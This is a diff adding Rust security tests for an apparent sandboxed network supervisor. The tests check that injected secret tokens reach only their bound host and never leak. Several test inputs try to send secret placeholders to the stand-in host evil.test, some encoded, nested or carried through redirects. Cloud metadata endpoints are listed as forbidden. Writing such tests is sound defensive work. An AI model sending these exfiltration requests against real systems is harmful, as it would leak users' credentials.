@@ -23,7 +23,12 @@ struct Lab {
     /// Services no request may ever reach: (name, log).
     forbidden: Vec<(&'static str, Arc<Log>)>,
     loopback: Arc<Log>,
+    api_http: Arc<Log>,
 }
+
+/// The secret value used by the SEC cases (as it would be in a token file).
+const TOKEN: &str = "tok_9f8e7d6c5b4a3210-SECRET/value+x";
+const SECOND: &str = "sec2_0123456789abcdefSECOND";
 
 fn sa(s: &str) -> SocketAddr {
     s.parse().unwrap_or_else(|e| panic!("{s}: {e}"))
@@ -57,6 +62,7 @@ impl Lab {
         let allowed_tls = https(&format!("{ALLOWED}:443"));
         let api_tls = https(&format!("{API}:443"));
         let loopback = http(&format!("127.0.0.1:{LOOPBACK_PORT}"));
+        let api_http = http(&format!("{API}:80"));
         let forbidden = vec![
             ("imds", http(&format!("{IMDS}:80"))),
             ("ecs", http(&format!("{ECS}:80"))),
@@ -74,6 +80,15 @@ impl Lab {
             "rs_fetch.wasm",
             &std::fs::read(fixture("rs_fetch")).expect("rs_fetch"),
         );
+        use std::os::unix::fs::PermissionsExt;
+        for (file, value) in [("token", TOKEN), ("second", SECOND)] {
+            let p = sb.write(file, &format!("{value}\n"));
+            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).expect("chmod");
+        }
+        sb.write(
+            "secrets.toml",
+            "[secrets.TOKEN]\nfile = \"token\"\n[secrets.SECOND]\nfile = \"second\"\n",
+        );
         Self {
             sb,
             zone,
@@ -82,6 +97,7 @@ impl Lab {
             api_tls,
             forbidden,
             loopback,
+            api_http,
         }
     }
 
@@ -103,16 +119,22 @@ impl Lab {
 
     /// Runs the probe with these requests; returns (results, report, audit lines).
     fn run(&self, requests: Value) -> (Out, Vec<Value>, Value, Vec<Value>) {
+        self.run_with(requests, &[])
+    }
+
+    fn run_with(&self, requests: Value, extra: &[&str]) -> (Out, Vec<Value>, Value, Vec<Value>) {
         let _ = std::fs::remove_file(self.sb.path("a.jsonl"));
         let input = json!({ "requests": requests }).to_string();
-        let (out, report) = self.sb.run_report(&[
+        let mut args = vec![
             "--input",
             &input,
             "--audit",
             "a.jsonl",
             "--extra-ca",
             "ca.pem",
-        ]);
+        ];
+        args.extend_from_slice(extra);
+        let (out, report) = self.sb.run_report(&args);
         let results = serde_json::from_str::<Value>(&out.stdout)
             .ok()
             .and_then(|v| v.as_array().cloned())
@@ -532,6 +554,220 @@ fn tls_needs_a_trusted_ca(lab: &Lab) -> Result<(), String> {
     lab.forbidden_untouched()
 }
 
+/// The SEC manifest: TOKEN injected as `Authorization: Bearer` toward
+/// https://api.allowed.test only; SECOND usable as a placeholder there, in any
+/// header; allowed.test, evil.test and http://api.allowed.test reachable too.
+fn sec_manifest(lab: &Lab) {
+    lab.manifest(
+        &[
+            ("https://api.allowed.test", &["GET", "POST"], false),
+            ("http://api.allowed.test", &["GET"], false),
+            ("https://allowed.test", &["GET"], false),
+            ("https://evil.test", &["GET", "POST"], false),
+        ],
+        "[[tools.probe.secrets]]\nname = \"TOKEN\"\nallow = [\"https://api.allowed.test\"]\nheader = \"Authorization\"\nformat = \"Bearer {}\"\nrationale = \"test\"\n\
+         [[tools.probe.secrets]]\nname = \"SECOND\"\nallow = [\"https://api.allowed.test\"]\nrationale = \"test\"\n",
+    );
+}
+
+fn secret_forms() -> Vec<String> {
+    use base64::Engine;
+    let mut forms = Vec::new();
+    for v in [TOKEN, SECOND] {
+        forms.push(v.to_string());
+        forms.push(hex::encode(v));
+        forms.push(hex::encode_upper(v));
+        for e in [
+            &base64::engine::general_purpose::STANDARD,
+            &base64::engine::general_purpose::URL_SAFE_NO_PAD,
+        ] {
+            // The encoding of the value alone, minus its last (partial) group.
+            let enc = e.encode(v);
+            forms.push(enc[..enc.len() - 4].to_string());
+        }
+        forms.push(v.bytes().map(|c| format!("%{c:02X}")).collect());
+    }
+    forms
+}
+
+/// None of the forms of either secret in `what`.
+fn no_secret(what: &str, label: &str) -> Result<(), String> {
+    for f in secret_forms() {
+        if what.contains(&f) {
+            return Err(format!("{label} carries a secret form `{f}`"));
+        }
+    }
+    Ok(())
+}
+
+/// Everything that left the supervisor for the caller: stdout, stderr, report,
+/// audit log.
+fn nothing_leaked(lab: &Lab, out: &Out) -> Result<(), String> {
+    no_secret(&out.stdout, "stdout")?;
+    no_secret(&out.stderr, "stderr")?;
+    no_secret(
+        &std::fs::read_to_string(lab.sb.path("report.json")).unwrap_or_default(),
+        "report",
+    )?;
+    no_secret(
+        &std::fs::read_to_string(lab.sb.path("a.jsonl")).unwrap_or_default(),
+        "audit log",
+    )
+}
+
+/// SEC-05/SEC-10: the secret is injected toward its host only, and the echoed
+/// value — raw, base64, hex, percent-encoded, in headers and body — is removed
+/// before the guest sees it; nothing of it in output, report or audit.
+fn sec05_injection_and_reflection(lab: &Lab) -> Result<(), String> {
+    sec_manifest(lab);
+    // `reverse`: the guest returns what it saw reversed, so that only the host's
+    // scrubbing of the response (not of the final output) can hide the value.
+    let (out, r, report, audit) = lab.run_with(
+        json!([
+            {"method": "GET", "url": "https://api.allowed.test/echo", "reverse": true},
+            {"method": "GET", "url": "https://api.allowed.test/echo-encoded", "reverse": true},
+            {"method": "GET", "url": "https://api.allowed.test/echo", "headers": [["X-Key", "k={{secret:SECOND}}"]], "reverse": true},
+        ]),
+        &["--secrets", "secrets.toml"],
+    );
+    check(out.code == 0 && r.len() == 3, || format!("{out:?}"))?;
+    check(r.iter().all(|x| x["status"] == 200), || format!("{r:?}"))?;
+    let seen = lab.api_tls.text();
+    check(
+        seen.contains(&format!("authorization: Bearer {TOKEN}")),
+        || seen.clone(),
+    )?;
+    check(seen.contains(&format!("x-key: k={SECOND}")), || {
+        seen.clone()
+    })?;
+    let guest_view: String = serde_json::to_string(&r)
+        .unwrap_or_default()
+        .chars()
+        .rev()
+        .collect();
+    no_secret(&guest_view, "the guest's view of the responses")?;
+    check(guest_view.contains("[REDACTED]"), || guest_view.clone())?;
+    nothing_leaked(lab, &out)?;
+    check(
+        report["secrets_used"]["TOKEN"] == 3 && report["secrets_used"]["SECOND"] == 1,
+        || report.to_string(),
+    )?;
+    let uses: Vec<&Value> = audit
+        .iter()
+        .filter(|e| e["event"] == "secret_use")
+        .collect();
+    check(
+        uses.len() == 4
+            && uses[0]["name"] == "TOKEN"
+            && uses[0]["destination"] == "https://api.allowed.test/echo",
+        || format!("{uses:?}"),
+    )?;
+    lab.forbidden_untouched()
+}
+
+/// SEC-02/SEC-04/SEC-12: a placeholder toward a host it is not bound to, in the
+/// URL, the body, a header name, the wrong header, split or encoded — refused, with
+/// one uniform answer for unknown, unbound and near-miss names.
+fn sec02_04_12_placeholders_go_nowhere(lab: &Lab) -> Result<(), String> {
+    sec_manifest(lab);
+    let h = |url: &str, name: &str, value: &str| json!({"method": "GET", "url": url, "headers": [[name, value]]});
+    let (out, r, _, _) = lab.run_with(
+        json!([
+            h("https://evil.test/", "X-Key", "{{secret:SECOND}}"),
+            h(
+                "https://evil.test/",
+                "Authorization",
+                "Bearer {{secret:TOKEN}}"
+            ),
+            h("https://api.allowed.test/", "X-Key", "{{secret:NOPE}}"),
+            h("https://api.allowed.test/", "X-Key", "{{secret:second}}"),
+            h("https://api.allowed.test/", "X-Key", "{{secret:SECOND }}"),
+            h(
+                "https://api.allowed.test/",
+                "X-Key",
+                "{{secret:{{secret:SECOND}}}}"
+            ),
+            h("https://api.allowed.test/", "X-Other", "{{secret:TOKEN}}"),
+            h("https://api.allowed.test/", "{{secret:SECOND}}", "x"),
+            h("https://api.allowed.test/", "X-Key", "{{secret:SEC"),
+            h(
+                "https://api.allowed.test/",
+                "X-Key",
+                "%7B%7Bsecret:SECOND%7D%7D"
+            ),
+            h("http://api.allowed.test/", "X-Key", "{{secret:SECOND}}"),
+        ]),
+        &["--secrets", "secrets.toml"],
+    );
+    check(out.code == 0, || format!("{out:?}"))?;
+    all_errors(&r, 11, "invalid-request")?;
+    let reasons: std::collections::BTreeSet<String> = r
+        .iter()
+        .map(|x| x["reason"].as_str().unwrap_or("").to_string())
+        .collect();
+    check(reasons.len() <= 2, || {
+        format!("distinguishable answers: {reasons:?}")
+    })?;
+    let (_, r, _, _) = lab.run_with(
+        json!([
+            get("https://api.allowed.test/x?k={{secret:SECOND}}"),
+            get("https://api.allowed.test/{{secret:SECOND}}"),
+            {"method": "POST", "url": "https://api.allowed.test/", "body": "k={{secret:SECOND}}"},
+            {"method": "POST", "url": "https://api.allowed.test/", "body": "k=%7b%7bsecret:SECOND%7d%7d"},
+        ]),
+        &["--secrets", "secrets.toml"],
+    );
+    all_errors(&r, 4, "invalid-request")?;
+    check(lab.api_tls.hits() == 0 && lab.api_http.hits() == 0, || {
+        lab.api_tls.text()
+    })?;
+    nothing_leaked(lab, &out)?;
+    lab.forbidden_untouched()
+}
+
+/// SEC-06: a secret-bearing request redirected to another origin, another
+/// allowed host or cleartext: the secret does not follow.
+fn sec06_redirects_do_not_carry_secrets(lab: &Lab) -> Result<(), String> {
+    sec_manifest(lab);
+    let redirect = |to: &str| {
+        get(&format!(
+            "https://api.allowed.test/redirect?code=307&to={to}"
+        ))
+    };
+    let (out, r, _, _) = lab.run_with(
+        json!([
+            redirect("https://evil.test/echo"),
+            redirect("https://allowed.test/echo"),
+            redirect("http://api.allowed.test/echo"),
+            {"method": "GET", "url": "https://api.allowed.test/redirect?code=308&to=https://allowed.test/echo",
+             "headers": [["X-Key", "{{secret:SECOND}}"]]},
+        ]),
+        &["--secrets", "secrets.toml"],
+    );
+    check(out.code == 0 && r.len() == 4, || format!("{out:?}"))?;
+    check(
+        r[0]["status"] == 200 && r[1]["status"] == 200 && r[2]["status"] == 200,
+        || format!("{r:?}"),
+    )?;
+    check(r[3]["error"] == "invalid-request", || format!("{r:?}"))?;
+    // The first hop carried the secret; none of the second hops did.
+    check(lab.api_tls.text().contains(TOKEN), || {
+        "not injected on the first hop".into()
+    })?;
+    let evil = lab
+        .forbidden
+        .iter()
+        .find(|(n, _)| *n == "evil-tls")
+        .map(|(_, l)| l.text())
+        .unwrap_or_default();
+    no_secret(&evil, "evil.test's log")?;
+    no_secret(&lab.allowed_tls.text(), "allowed.test's log")?;
+    no_secret(&lab.api_http.text(), "http://api.allowed.test's log")?;
+    nothing_leaked(lab, &out)?;
+    // evil.test was reached (it is granted here), but learned nothing.
+    Ok(())
+}
+
 fn main() {
     let real_uid = enter();
     let lab = Lab::new();
@@ -561,6 +797,18 @@ fn main() {
             private_rule_admits_only_its_target,
         ),
         ("tls_needs_a_trusted_ca", tls_needs_a_trusted_ca),
+        (
+            "sec05_injection_and_reflection",
+            sec05_injection_and_reflection,
+        ),
+        (
+            "sec02_04_12_placeholders_go_nowhere",
+            sec02_04_12_placeholders_go_nowhere,
+        ),
+        (
+            "sec06_redirects_do_not_carry_secrets",
+            sec06_redirects_do_not_carry_secrets,
+        ),
     ];
     let filter: Vec<String> = std::env::args()
         .skip(1)
